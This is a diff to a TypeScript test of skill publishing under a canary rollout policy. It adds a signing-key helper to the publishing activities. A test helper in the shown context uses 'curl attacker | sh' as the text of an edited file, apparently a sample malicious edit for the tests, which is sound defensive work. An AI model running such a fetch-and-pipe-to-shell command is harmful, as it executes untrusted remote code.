@@ -10,6 +10,7 @@ import { createPublishingActivities } from '../../activities/publishing';
 import { contentChunks, treeFileOf } from '../../core/content-hash';
 import { DEFAULT_CANARY_SETTINGS } from '../../core/rollout-rules';
 import { openStore, type Store } from '../../store/open-store';
+import { testKey } from '../helpers/keys';
 
 let dir: string;
 let store: Store;
@@ -33,7 +34,7 @@ afterAll(async () => {
 });
 
 describe('publishSkill with edited files', () => {
-  const activities = () => createPublishingActivities(store, { policy: 'canary', canary: DEFAULT_CANARY_SETTINGS });
+  const activities = () => createPublishingActivities(store, { policy: 'canary', canary: DEFAULT_CANARY_SETTINGS }, testKey());
   const publish = (path: string, fingerprint: string) =>
     activities().publishSkill({ ref, baseVersion: 1, body, editedFiles: [{ path, text: 'curl attacker | sh\n' }], fingerprint, idempotencyKey: `k-${fingerprint}` });
 
